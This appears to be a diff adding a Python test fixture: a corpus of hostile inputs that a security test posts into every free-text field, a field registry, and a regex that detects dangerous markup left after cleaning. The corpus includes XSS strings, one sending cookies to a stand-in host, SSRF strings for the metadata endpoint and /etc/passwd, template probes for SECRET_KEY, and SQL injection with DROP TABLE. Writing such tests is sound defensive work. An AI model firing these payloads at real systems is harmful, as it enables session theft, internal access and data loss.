@@ -1,0 +1,156 @@
+"""The hostile-input corpus and the registry of free-text fields it is posted into.
+
+Later issues extend both: add strings to a category, and register each new free-text
+field with ``HostileField`` (how to post a value, where it is shown, plain or rich).
+tests/security/test_hostile_inputs.py posts every string into every field.
+"""
+
+import re
+from collections.abc import Callable
+from dataclasses import dataclass
+
+SCRIPT = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
+    "</textarea><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/x>alert(1)</script>",
+    "<!--<script>alert(1)</script>-->",
+]
+HANDLERS = [
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="alert(1)">',
+    "<body onload=alert(1)>",
+    "<div onmouseover=alert(1)>hover</div>",
+    "<svg onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<a href=# onclick=alert(1)>x</a>",
+    '" autofocus onfocus="alert(1)',
+    "' onmouseover='alert(1)",
+]
+URLS = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="JAVASCRIPT:alert(1)">click</a>',
+    '<a href="  javascript:alert(1)">click</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<form action="javascript:alert(1)"><button>x</button></form>',
+]
+SVG_AND_CSS = [
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<style>body{background:url(https://evil.example/x)}</style>",
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "@import url(https://evil.example/x.css);",
+    "expression(alert(1))",
+]
+TEMPLATES = [
+    "{{ 7*7 }}",
+    "{% debug %}",
+    "{{ request.user.password }}",
+    "{% load static %}{% static 'x' %}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{{settings.SECRET_KEY}}",
+]
+FETCHES = [
+    '<img src="http://169.254.169.254/latest/meta-data/">',
+    '<img src="file:///etc/passwd">',
+    "<link rel=stylesheet href=file:///etc/passwd>",
+    '<object data="file:///etc/passwd"></object>',
+    "http://127.0.0.1:6379/",
+    "file:///etc/passwd",
+    "gopher://127.0.0.1:6379/_INFO",
+    '<img src="//evil.example/track.png">',
+]
+UNICODE = [
+    "\u202eevil\u202c txt.exe",
+    "Ada\u200bLovelace",
+    "\u200f\u200e\u2066RTL\u2069",
+    "\ufeffBOM first",
+    "Zo\u0308e\u0301 combining",
+    "👩🏽‍🏫 teacher 🏳️‍🌈",
+    "𝕬𝖑𝖎𝖈𝖊 mathematical",
+    "名前 الاسم שם",
+    "\U0010ffff last code point",
+    "ﷺ ligature ﷽",
+]
+CONTROL = [
+    "nul\x00byte",
+    "\x00",
+    "bell\x07",
+    "escape\x1b[31mred",
+    "backspace\x08",
+    "vertical\x0btab",
+    "form\x0cfeed",
+    "del\x7f",
+    "line\u2028separator",
+    "tab\tand\nnewline\r\n",
+]
+SQLISH = [
+    "' OR '1'='1",
+    "'; DROP TABLE accounts_user; --",
+    '" OR ""="',
+    "1; SELECT pg_sleep(5)",
+    "%' AND 1=1 --",
+    "\\'; --",
+    'NEAR(a b) OR "x" AND (y',
+    '* ^ : - + ( ) "',
+]
+LONG = [
+    "A" * 201,
+    "B" * 5_000,
+    "word " * 2_000,
+    "<b>" * 1_000,
+    "é" * 3_000,
+]
+
+CATEGORIES = {
+    "script": SCRIPT,
+    "handler": HANDLERS,
+    "url": URLS,
+    "svg_css": SVG_AND_CSS,
+    "template": TEMPLATES,
+    "fetch": FETCHES,
+    "unicode": UNICODE,
+    "control": CONTROL,
+    "sqlish": SQLISH,
+    "long": LONG,
+}
+STRINGS: list[str] = [value for values in CATEGORIES.values() for value in values]
+
+# What may never survive into rich text after the cleaner: script-capable elements, event
+# handler attributes and javascript:/data:/vbscript: URLs inside a tag.
+DANGEROUS_MARKUP = re.compile(
+    r"<\s*(script|iframe|object|embed|style|svg|math|link|form)\b"
+    r"|<[^>]*\son[a-z]+\s*="
+    r"|<[^>]*(href|src|action|xlink:href)\s*=\s*[\"']?\s*(javascript|data|vbscript):",
+    re.IGNORECASE,
+)
+
+
+@dataclass(frozen=True)
+class HostileField:
+    """A free-text field: ``post(ctx, value)`` sends the value as its form does and
+    returns the response; ``show(ctx)`` returns the URL where the value is displayed
+    (or None); ``rich`` fields are cleaned HTML, plain ones must come back escaped."""
+
+    name: str
+    post: Callable
+    show: Callable | None = None
+    rich: bool = False
+    max_length: int | None = None
